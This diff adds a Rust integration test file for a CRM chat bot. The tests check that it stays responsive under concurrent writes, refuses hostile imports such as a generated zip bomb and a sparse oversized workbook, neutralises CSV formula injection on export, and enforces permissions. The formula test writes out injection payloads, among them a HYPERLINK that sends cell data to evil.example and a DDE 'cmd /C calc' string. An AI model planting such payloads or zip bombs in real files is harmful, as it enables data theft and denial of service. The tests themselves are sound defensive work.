@@ -1,0 +1,324 @@
+//! Trust under load and hostile input: a job composes its messages without holding the write lock
+//! (the Monday digest goes out while people write), no file can exhaust memory, exports carry no
+//! live formulas, simultaneous presses write once, and the serve lock is the database file itself.
+
+use std::io::Write;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use std::time::Duration;
+
+use chrono::{TimeZone, Utc};
+use kam_bot::core::{Command, Core};
+use kam_bot::domain::account::Role;
+use kam_bot::scheduler::Scheduler;
+use kam_bot::scheduler::jobs::Job;
+use kam_bot::store::Store;
+
+use crate::helpers::{TestApp, WS, demo_app, kam_bot, test_now};
+
+async fn make_admin(app: &TestApp) {
+    let ws = app.workspace_id(WS).await;
+    let me = app.store.find_person(ws, "terminal", "tester").await.unwrap().unwrap();
+    app.store.set_role(ws, me.id, Role::Admin).await.unwrap();
+}
+
+/// Writers on every connection of a small pool, and the Monday digest due: the digest is recorded
+/// in its tick and every write is answered. (Composed inside its write transaction, the digest's
+/// reads waited for connections that writers held while they waited for its lock: writes failed
+/// after the busy timeout, and in `serve` the tick failed over and over.)
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn the_monday_digest_goes_out_while_people_write() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("kam.db");
+    let store = Store::open_with(&db, 2, Default::default()).await.unwrap();
+    kam_bot::seed::demo::seed_demo(&store, WS, test_now()).await.unwrap().unwrap();
+    kam_bot::seed::synthetic::seed_synthetic(&store, WS, 2_000, test_now()).await.unwrap();
+    let core = Core::new(store.clone());
+    let stop = Arc::new(AtomicBool::new(false));
+    let (written, failed) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
+    let mut writers = Vec::new();
+    for w in 0..6 {
+        let (core, stop, written, failed) = (core.clone(), stop.clone(), written.clone(), failed.clone());
+        writers.push(tokio::spawn(async move {
+            let inv = kam_bot::core::Invocation {
+                workspace: WS.into(),
+                platform: kam_bot::core::Platform::Terminal,
+                user_id: format!("writer{w}"),
+                display_name: format!("Writer {w}"),
+                name_is_handle: false,
+                locale: Some(kam_bot::i18n::Locale::En),
+                now: test_now(),
+                source_id: None,
+            };
+            let mut i = 0;
+            while !stop.load(Ordering::Relaxed) {
+                let reply = core.run_line(&inv, &format!("/log Vale call \"Writer {w} call {i}\"")).await;
+                if reply.is_error() {
+                    failed.fetch_add(1, Ordering::Relaxed);
+                } else {
+                    written.fetch_add(1, Ordering::Relaxed);
+                }
+                i += 1;
+            }
+        }));
+    }
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    // Monday 2026-11-30, 08:05 in São Paulo: the weekly digest is due.
+    let monday = Utc.with_ymd_and_hms(2026, 11, 30, 11, 5, 0).unwrap();
+    let scheduler = Scheduler::new(store.own_pool(kam_bot::scheduler::POOL_SIZE));
+    let ran = tokio::time::timeout(Duration::from_secs(60), scheduler.tick(monday)).await.expect("the tick ended");
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    stop.store(true, Ordering::Relaxed);
+    for w in writers {
+        w.await.unwrap();
+    }
+    let ran = ran.expect("the tick succeeded");
+    let digest = ran.iter().find(|r| r.job == Job::WeeklyDigest).expect("the weekly digest ran in its tick");
+    assert!(digest.messages >= 1, "{ran:?}");
+    let (written, failed) = (written.load(Ordering::Relaxed), failed.load(Ordering::Relaxed));
+    assert!(written > 20, "writes kept answering: {written}");
+    assert_eq!(failed, 0, "{failed} of {} writes failed while the digest ran", written + failed);
+    // Run again, the same occurrence is not run twice.
+    assert!(scheduler.tick(monday).await.unwrap().iter().all(|r| r.job != Job::WeeklyDigest));
+}
+
+/// A small workbook whose two cells sit at A1 and XFD1048576 (a declared range of 17 billion
+/// cells), a zip bomb and an oversized CSV are each refused with the limit named, from the command
+/// line and through an admin's chat `/import`; the process lives on.
+#[tokio::test]
+async fn hostile_files_are_refused_before_they_are_allocated() {
+    let app = demo_app().await;
+    make_admin(&app).await;
+    let dir = tempfile::tempdir().unwrap();
+
+    let sparse = dir.path().join("sparse.xlsx");
+    let mut book = rust_xlsxwriter::Workbook::new();
+    let sheet = book.add_worksheet();
+    sheet.write_string(0, 0, "Account Name").unwrap();
+    sheet.write_string(1_048_575, 16_383, "far away").unwrap();
+    book.save(&sparse).unwrap();
+    assert!(std::fs::metadata(&sparse).unwrap().len() < 10_000);
+
+    // A real workbook with one more part: 300 MB of zeros, a few hundred kilobytes compressed.
+    let bomb = dir.path().join("bomb.xlsx");
+    {
+        let mut book = rust_xlsxwriter::Workbook::new();
+        book.add_worksheet().write_string(0, 0, "Account Name").unwrap();
+        let good = book.save_to_buffer().unwrap();
+        let mut source = zip::ZipArchive::new(std::io::Cursor::new(good)).unwrap();
+        let mut out = zip::ZipWriter::new(std::fs::File::create(&bomb).unwrap());
+        for i in 0..source.len() {
+            out.raw_copy_file(source.by_index(i).unwrap()).unwrap();
+        }
+        let options = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated)
+            .large_file(true);
+        out.start_file("xl/media/padding.bin", options).unwrap();
+        let zeros = vec![0u8; 1 << 20];
+        for _ in 0..300 {
+            out.write_all(&zeros).unwrap();
+        }
+        out.finish().unwrap();
+    }
+    assert!(std::fs::metadata(&bomb).unwrap().len() < 4 * 1024 * 1024);
+
+    // Larger than the file bound: refused by its size, unread (the file is sparse on disk).
+    let huge = dir.path().join("huge.csv");
+    let file = std::fs::File::create(&huge).unwrap();
+    file.set_len(kam_bot::transfer::table::MAX_FILE_BYTES + 1).unwrap();
+    drop(file);
+    // Within the size, a row far wider than any export.
+    let wide = dir.path().join("wide.csv");
+    std::fs::write(&wide, format!("Account Name{}\nVale{}\n", ",x".repeat(600), ",1".repeat(600))).unwrap();
+
+    let before = app.counts(WS).await;
+    for (path, expected) in [
+        (&sparse, "a row has more than 512 columns"),
+        (&bomb, "the workbook holds more than 128 MB once decompressed"),
+        (&huge, "it is larger than 64 MB"),
+        (&wide, "a row has more than 512 columns"),
+    ] {
+        let out = kam_bot(&app.db_path).args(["--workspace", WS, "import", "accounts"]).arg(path).output().unwrap();
+        let said = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+        assert_eq!(out.status.code(), Some(2), "{}: {said}", path.display());
+        assert!(said.contains(expected), "{}: {said}", path.display());
+    }
+    // Through the chat, as a Discord upload arrives: the same refusals, one line each.
+    for (path, expected) in [(&sparse, "more than 512 columns"), (&bomb, "128 MB once decompressed")] {
+        let request = kam_bot::core::command::ImportRequest {
+            kind: "accounts".into(),
+            file_name: path.file_name().unwrap().to_string_lossy().into(),
+            content: Some(std::fs::read(path).unwrap()),
+        };
+        let inv = app.invocation(WS, "tester");
+        let reply = app.core.run(&inv, Ok(Command::Import(request))).await;
+        assert!(reply.is_error() && reply.to_text().contains(expected), "{}", reply.to_text());
+    }
+    assert_eq!(app.counts(WS).await, before, "a refused file writes nothing");
+}
+
+/// A file whose rows mix UTF-8 and Windows-1252 is refused with a line of each, not read as
+/// mojibake ("JoÃ£o").
+#[tokio::test]
+async fn a_file_of_mixed_encodings_is_refused_with_its_lines() {
+    let app = demo_app().await;
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("mixed.csv");
+    let mut bytes = "Account Name;Industry\nJoão Válido;Mineração\n".as_bytes().to_vec();
+    bytes.extend_from_slice(b"Jos\xE9 Ant\xF4nio;Siderurgia\n");
+    std::fs::write(&file, bytes).unwrap();
+    let out = kam_bot(&app.db_path).args(["--workspace", WS, "import", "accounts"]).arg(&file).output().unwrap();
+    let said = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+    assert_eq!(out.status.code(), Some(2), "{said}");
+    assert!(said.contains("mixes two encodings (UTF-8 at line 2, Windows-1252 at line 3)"), "{said}");
+}
+
+/// An account named as a formula and summaries that start like one are exported as text (a `'`
+/// first), and an import takes the `'` back off.
+#[tokio::test]
+async fn exports_carry_no_live_formulas_and_import_reads_them_back() {
+    let app = demo_app().await;
+    make_admin(&app).await;
+    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Clique aqui\")";
+    let added = app.say(&format!("/account add \"{}\" --tier 2", evil.replace('"', "'"))).await;
+    assert!(!added.is_error(), "{}", added.to_text());
+    for summary in ["+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"] {
+        let logged = app.say(&format!("/log Vale call \"{summary}\"")).await;
+        assert!(!logged.is_error(), "{}", logged.to_text());
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let mut live = Vec::new();
+    for kind in ["accounts", "contacts", "people", "interactions", "opportunities"] {
+        let file = dir.path().join(format!("{kind}.csv"));
+        let out = kam_bot(&app.db_path)
+            .args(["--workspace", WS, "export", kind, "--format", "csv", "--out"])
+            .arg(&file)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_path(&file).unwrap();
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
+                if formula {
+                    live.push(format!("{kind}: {cell}"));
+                }
+            }
+        }
+    }
+    assert!(live.is_empty(), "live formula cells: {live:?}");
+    let accounts = std::fs::read_to_string(dir.path().join("accounts.csv")).unwrap();
+    assert!(accounts.contains("'=HYPERLINK("), "{accounts}");
+    // Imported into another workspace, the name is the name again.
+    let out = kam_bot(&app.db_path)
+        .args(["--workspace", "discord:7", "import", "accounts"])
+        .arg(dir.path().join("accounts.csv"))
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
+    let copy = app.workspace_id("discord:7").await;
+    let names: Vec<String> = app.store.account_name_terms(copy).await.unwrap().into_iter().map(|a| a.name).collect();
+    assert!(names.iter().any(|n| n.starts_with("=HYPERLINK(")), "{names:?}");
+}
+
+/// Eight presses of Done at the same instant (distinct requests, as a double click sends) close
+/// the open step once.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn done_pressed_at_once_writes_once() {
+    let app = Arc::new(demo_app().await);
+    make_admin(&app).await;
+    let logged = app.say("/log Vale call \"Piloto\" --next \"Mandar proposta\" --due 2026-12-04").await;
+    assert!(!logged.is_error(), "{}", logged.to_text());
+    let ws = app.workspace_id(WS).await;
+    let before = app.counts(WS).await;
+    let presses: Vec<_> = (0..8)
+        .map(|i| {
+            let app = app.clone();
+            tokio::spawn(async move {
+                let mut inv = app.invocation(WS, "tester");
+                inv.source_id = Some(format!("press-{i}"));
+                app.core.run_line(&inv, "/done Vale").await
+            })
+        })
+        .collect();
+    for press in presses {
+        let reply = press.await.unwrap();
+        assert!(!reply.is_error(), "{}", reply.to_text());
+    }
+    let after = app.counts(WS).await;
+    assert_eq!(after.interactions, before.interactions + 1, "one done note, whatever the presses");
+    let vale = app.store.accounts_named(ws, "vale").await.unwrap()[0].account_id;
+    let history = app.store.history_page(ws, vale, 3, 0).await.unwrap();
+    assert_eq!(history.iter().filter(|i| i.summary.contains("Mandar proposta")).count(), 1, "{history:?}");
+}
+
+/// Snoozing or closing a step needs the right to change the account: a rep who neither owns nor
+/// manages it is refused, and the owner's reminders stay.
+#[tokio::test]
+async fn snooze_and_done_need_the_right_to_change_the_account() {
+    let app = demo_app().await;
+    make_admin(&app).await;
+    app.say("/log Vale call \"Piloto\" --next \"Mandar proposta\" --due 2026-12-04").await;
+    let before = app.counts(WS).await;
+    for line in ["/snooze Vale --days 90", "/done Vale"] {
+        let reply = app.core.run_line(&app.invocation(WS, "outsider"), line).await;
+        assert!(reply.is_error(), "{line}: {}", reply.to_text());
+        assert!(reply.to_text().contains("Vale"), "{}", reply.to_text());
+    }
+    let ws = app.workspace_id(WS).await;
+    let vale = app.store.accounts_named(ws, "vale").await.unwrap()[0].account_id;
+    assert_eq!(app.store.snoozed_until(ws, vale).await.unwrap(), None);
+    assert_eq!(app.counts(WS).await.interactions, before.interactions);
+}
+
+/// Slack's `user_name` is a handle: a person known as "Ana Souza" keeps that name when a slash
+/// command names her "ana".
+#[tokio::test]
+async fn a_handle_never_renames_a_known_person() {
+    let app = demo_app().await;
+    let mut inv = app.invocation("slack:T1", "U1");
+    inv.platform = kam_bot::core::Platform::Slack;
+    inv.display_name = "Ana Souza".into();
+    app.core.run_line(&inv, "/help").await;
+    inv.display_name = "ana".into();
+    inv.name_is_handle = true;
+    app.core.run_line(&inv, "/help").await;
+    let ws = app.workspace_id("slack:T1").await;
+    let ana = app.store.find_person(ws, "slack", "U1").await.unwrap().unwrap();
+    assert_eq!(ana.display_name, "Ana Souza");
+}
+
+/// The serve lock is the database file itself: through a symlink, a second `serve` and a restore
+/// are refused while the first runs. A restore run twice keeps both databases it replaced.
+#[tokio::test]
+async fn the_serve_lock_holds_by_any_path_and_restore_keeps_every_copy() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("k.db");
+    assert!(kam_bot(&db).args(["seed", "--demo"]).output().unwrap().status.success());
+    let link = dir.path().join("link.db");
+    std::os::unix::fs::symlink(&db, &link).unwrap();
+    let backup = dir.path().join("b.db");
+    assert!(kam_bot(&db).arg("backup").arg(&backup).output().unwrap().status.success());
+
+    let mut server = crate::helpers::serve_listening(&db).await;
+    let second =
+        kam_bot(&link).args(["serve", "--listen", "127.0.0.1:0"]).env("SLACK_SIGNING_SECRET", "x").output().unwrap();
+    let restore = kam_bot(&link).arg("restore").arg(&backup).output().unwrap();
+    let _ = server.kill();
+    let _ = server.wait();
+    assert_eq!(second.status.code(), Some(2), "{second:?}");
+    assert!(String::from_utf8_lossy(&second.stderr).contains("Another kam-bot serve is running on"));
+    assert_eq!(restore.status.code(), Some(2), "{restore:?}");
+
+    for _ in 0..2 {
+        let out = kam_bot(&link).arg("restore").arg(&backup).output().unwrap();
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    }
+    assert!(dir.path().join("k.db.before-restore").exists());
+    assert!(dir.path().join("k.db.before-restore.2").exists(), "the second restore kept its own copy");
+    assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink(), "the link stays a link");
+    let store = Store::open(&db).await.unwrap();
+    assert_eq!(store.integrity_check().await.unwrap(), "ok");
+    assert!(!store.workspace_ids().await.unwrap().is_empty());
+    store.close().await;
+}
